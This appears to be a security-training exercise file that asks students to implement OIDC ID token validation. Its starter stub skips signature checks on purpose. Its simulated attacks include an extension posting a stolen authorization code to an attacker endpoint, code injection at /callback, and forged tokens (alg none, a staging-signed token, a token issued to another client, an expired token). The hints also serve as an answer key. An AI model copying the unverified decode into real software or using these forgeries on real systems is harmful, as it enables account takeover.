"""Exercise: validate an ID token at the client (OIDC Core 3.1.3.7)."""

from urllib.parse import parse_qsl, urlencode, urlsplit

import jwt

from playground import Exercise, jwt_forge

exercise = Exercise(
    "Validate an ID token",
    level="advanced",
    spec="OIDC Core 2, 3.1.2.1, 3.1.3.7, 15.5.2; RFC 8725 3.9; RFC 9700 2.1.1, 4.5",
    summary=(
        "PhotoPrint signs people in with OpenID Connect: the ID token says "
        "who signed in, and PhotoPrint opens their account (found by `iss` "
        "and `sub`). It validates every ID token with your function, in two "
        "places: at its `/callback`, where the ID token comes from the token "
        "endpoint, and at `/spa/session`, where Photo Gallery's script posts "
        "the ID token it got, to open a session on PhotoPrint's server. "
        "Here PhotoPrint binds its sign-ins with the `nonce` instead of PKCE, "
        "as RFC 9700 2.1.1 allows confidential OpenID Connect clients: the "
        "nonce check is what stops an injected code."
    ),
)


@exercise.student
def validate_id_token(
    id_token: str,
    *,
    jwks: dict,
    issuer: str,
    client_id: str,
    nonce: str | None,
    now: int,
) -> dict:
    """
    Return the ID token's claims if it signs someone in to this client;
    otherwise raise `Refused("why")` (PyJWT's errors count as refusals too).

    - `jwks`: the keys the issuer publishes (its `jwks_uri`); `issuer`: the
      OpenID Provider's issuer identifier; `client_id`: this client's.
    - `nonce`: the nonce this browser's authentication request sent, or
      None when this server sent none (at `/spa/session` the gallery's
      script made the request).
    - `now`: the current time by the playground's clock.

    OIDC Core 3.1.3.7: the `iss` "MUST exactly match" the issuer; the
    client "MUST validate that the aud (audience) Claim contains its
    client_id value ... The ID Token MUST be rejected if the ID Token does
    not list the Client as a valid audience, or if it contains additional
    audiences not trusted by the Client"; `azp` is checked "as specified
    by" the extensions that put it there (steps 4 and 5, errata set 2:
    "This validation MAY include that when an azp (authorized party) Claim
    is present, the Client SHOULD verify that its client_id is the Claim
    Value"). An ID token received straight from the token endpoint may
    rely on TLS instead of its signature (step 6), but the client "MUST
    validate the signature of all other ID Tokens according to JWS", and
    `/spa/session` receives its ID tokens from a browser: verify the
    signature in both places, with
    the alg you expect (RS256 here: OIDC Core 2 allows `none` only to a
    client that asked for it at registration, and none of these did); "The
    current time MUST be before the time represented by the exp Claim"; and
    "If a nonce value was sent in the Authentication Request, a nonce Claim
    MUST be present and its value checked to verify that it is the same
    value as the one that was sent in the Authentication Request."
    """
    # TODO: verify the signature and the claims; compare the nonce.
    return jwt.decode(id_token, options={"verify_signature": False})


@exercise.setup
def install(run):
    """PhotoPrint binds OpenID Connect sign-ins with the nonce (no PKCE), and
    validates every ID token with `validate_id_token`."""
    run.world.deployment.as_settings.require_pkce_for_all_clients = False
    run.web_client.configure(code_binding="nonce")
    run.use_id_token_check(validate_id_token)


ALICE = "u-1001"
SCOPE = "openid profile basic photos.read"
STAGING = "https://auth.staging.photos.test"
EXTENSION = "chrome-extension://ijfhehfecgjaneaiecioneilhpnlnkdl"  # Coupon Finder


def claims_of(token):
    return jwt.decode(token, options={"verify_signature": False})


def photoprint_sign_in(browser, client_url, username, password):
    """A whole OpenID Connect sign-in at PhotoPrint."""
    browser.open(f"{client_url}/login?{urlencode({'scope': SCOPE})}")
    browser.follow_redirect()
    if browser.page.form("login-form") is not None:
        browser.sign_in(username, password)
        browser.follow_redirect()
    if browser.page.form("consent-form") is not None:
        browser.approve()
    browser.follow_redirect()


def gallery_id_token(run):
    """Alice signs in to Photo Gallery with OpenID Connect; its ID token."""
    run.code_flow(run.spa, run.browser, "alice", "wonderland", scope=SCOPE)
    return run.spa.tokens.get("id_token", "")


def post_to_gallery_session(http_post, client_url, id_token):
    return http_post(f"{client_url}/spa/session", data={"id_token": id_token})


def signed_in_as_alice(text):
    return "Alice Liddell" in text and "7 Rabbit Hole Lane" in text


@exercise.scenario(
    "Alice signs in to PhotoPrint, and Photo Gallery opens its session",
    hints=(
        "Both ID tokens come straight from the authorization server: RS256, "
        "its kid, iss, aud naming the client, exp ahead, and (at the "
        "callback) the nonce PhotoPrint sent.",
        "PyJWT reads the machine's clock for exp and iat; the playground's is "
        "`now`. Turn those checks off and compare claims['exp'] with `now`.",
        "jwt.decode(id_token, key, algorithms=['RS256'], audience=client_id, "
        "issuer=issuer, options={'verify_exp': False, 'verify_iat': False, "
        "'verify_nbf': False})",
    ),
)
def honest_sign_ins(run):
    """
    Alice clicks *Sign in* on PhotoPrint, which asks for `openid profile`
    with a fresh `nonce` kept in her session. The token endpoint answers
    with an ID token whose `aud` is `photoprint` and whose `nonce` is that
    one; PhotoPrint opens her account. Then Photo Gallery signs her in too,
    and its script posts the gallery's ID token (`aud: photo-gallery-spa`)
    to `/spa/session`.
    """
    photoprint_sign_in(run.browser, run.client_url, "alice", "wonderland")
    run.check(
        "PhotoPrint opens Alice's account (200)",
        run.browser.status == 200 and signed_in_as_alice(run.browser.page.text),
        run.browser.page.text[:300],
    )
    run.clock.advance(run.random.randint(10, 600))
    id_token = gallery_id_token(run)
    response = run.browser.fetch(
        f"{run.client_url}/spa/session", method="POST", data={"id_token": id_token}
    )
    run.check(
        "the gallery's ID token opens a session at /spa/session (200)",
        response.status_code == 200 and signed_in_as_alice(response.text),
        response.text[:300],
    )


@exercise.scenario(
    "Mallory injects Alice's code into her own sign-in",
    attack=True,
    hints=(
        "The ID token is genuine, for PhotoPrint, unexpired: it is Alice's. "
        "What gives it away is the nonce: Alice's request sent it, not "
        "Mallory's.",
        "PhotoPrint passes you the nonce this browser's request sent. If one "
        "was sent, the ID token must carry exactly that value (OIDC Core "
        "3.1.3.7 step 11).",
        "if nonce is not None and not hmac.compare_digest(str(claims.get("
        "'nonce', '')), nonce): raise Refused('not the nonce this browser "
        "sent')",
    ),
)
def code_injection(run):
    """
    Alice signs in to PhotoPrint with OpenID Connect. Her browser extension
    *Coupon Finder* reports the redirect, code and all, to Mallory before
    the browser follows it (RFC 9700 4.5, attack lesson 13). Mallory starts
    her own sign-in at PhotoPrint, which gives her session a `state` and a
    `nonce`, and opens PhotoPrint's `/callback` with Alice's code and her own
    state.

    PhotoPrint's state check passes, and it redeems the code with its own
    secret: the token endpoint answers with *Alice's* ID token, whose
    `nonce` is the one of Alice's request (RFC 9700 4.5.3.2).
    """
    run.browser.open(f"{run.client_url}/login?{urlencode({'scope': SCOPE})}")
    run.browser.follow_redirect()
    run.browser.sign_in("alice", "wonderland")
    run.browser.follow_redirect()
    run.browser.approve()
    callback = run.browser.redirect_location or ""
    run.browser.fetch(  # Coupon Finder, from its own origin
        f"{run.attacker.url}/report",
        method="POST",
        data={"url": callback, **dict(parse_qsl(urlsplit(callback).query))},
        mode="no-cors",
        origin=EXTENSION,
    )
    code = run.attacker.loot("code")[-1]
    mallory = run.attacker.browser
    mallory.open(f"{run.client_url}/login?{urlencode({'scope': SCOPE})}")
    state = mallory.redirect_params.get("state", "")
    forged = {"code": code, "state": state, "iss": run.issuer}
    mallory.open(f"{run.client_url}/callback?{urlencode(forged)}")
    run.refused(
        "PhotoPrint refuses the ID token: its nonce is not this session's",
        mallory.status == 400 and not signed_in_as_alice(mallory.page.text),
        attacker_gets="a PhotoPrint session in Alice's account (her delivery "
        "address, her orders, her photos)",
        evidence=run.exchanges_to(f"{run.client_url}/callback")[-1:]
        + run.exchanges_to(f"{run.issuer}/token")[-1:],
    )
    photoprint_sign_in(run.browser, run.client_url, "alice", "wonderland")
    run.check(
        "and Alice's own sign-in still works (200)",
        run.browser.status == 200 and signed_in_as_alice(run.browser.page.text),
    )


@exercise.scenario(
    "Mallory posts ID tokens to the gallery's /spa/session",
    attack=True,
    hints=(
        "Every one of these names Alice. Only a token the issuer signed, "
        "issued to Photo Gallery, by this issuer, and not expired may open "
        "her session.",
        "aud must contain client_id (PhotoPrintz's token names photo-printz); "
        "iss must equal issuer; the signature must verify with the issuer's "
        "key and RS256 only; exp must be after `now`.",
        "jwt.decode(id_token, key, algorithms=['RS256'], audience=client_id, "
        "issuer=issuer, options={...}); if now >= claims['exp']: raise "
        "Refused(...)",
    ),
)
def tokens_posted_to_gallery(run):
    """
    The gallery's server opens a session for whoever an ID token names.
    Mallory posts, straight from her server:

    1. **An ID token issued to another client**: Alice tried PhotoPrintz,
       Mallory's registered look-alike app, and signed in to it with the
       photo service; PhotoPrintz legitimately holds an ID token of Alice's
       with `aud: photo-printz` (RFC 8725 3.9, attack lesson 15b).
    2. **An expired ID token** of the gallery's, which a script injected in
       the gallery's page sent her long ago.
    3. **An unsigned one** (`alg: none`) she wrote herself.
    4. **One from the staging server**, which was set up with a copy of
       production's signing key.
    """
    expired = gallery_id_token(run)
    printz = run.oauth_client("photo-printz")
    run.browser.open(printz.authorization_url(SCOPE, pkce_method="S256", nonce=True))
    run.browser.approve()
    printz_code = run.browser.redirect_params.get("code", "")
    printz_tokens = run.attacker.redeem_code(
        printz_code,
        client_id=printz.client_id,
        redirect_uri=printz.redirect_uri,
        client_secret=printz.client_secret,
        code_verifier=printz.pending.code_verifier,
    ).json()
    run.clock.advance(claims_of(expired)["exp"] - run.clock.now() + 60)
    fresh = run.clock.now()
    alice = {
        "iss": run.issuer,
        "sub": ALICE,
        "aud": ["photo-gallery-spa"],
        "iat": fresh,
        "exp": fresh + 3600,
        "name": "Alice Liddell",
    }
    key = run.world.keys.authorization_server
    in_her_account = (
        "a session at PhotoPrint in Alice's account (her address, her orders)"
    )
    tokens = {
        "issued to PhotoPrintz": (printz_tokens.get("id_token", ""), in_her_account),
        "expired": (expired, in_her_account),
        "alg: none": (jwt_forge.unsigned(alice, header={"typ": "JWT"}), in_her_account),
        "from the staging server": (
            jwt_forge.sign({**alice, "iss": STAGING}, key, header={"typ": "JWT"}),
            "a PhotoPrint account under Alice's name, vouched for by a server "
            "that is not the photo service",
        ),
    }
    for what in run.random.sample(list(tokens), len(tokens)):
        token, gain = tokens[what]
        response = post_to_gallery_session(
            run.attacker.http.post, run.client_url, token
        )
        run.refused(
            f"the gallery's server refuses the ID token ({what}): 401",
            response.status_code == 401,
            attacker_gets=gain,
            evidence=run.exchanges_to(f"{run.client_url}/spa/session")[-1:],
        )
    own = gallery_id_token(run)
    response = run.browser.fetch(
        f"{run.client_url}/spa/session", method="POST", data={"id_token": own}
    )
    run.check(
        "and the gallery's own new ID token still opens Alice's session (200)",
        response.status_code == 200 and signed_in_as_alice(response.text),
    )
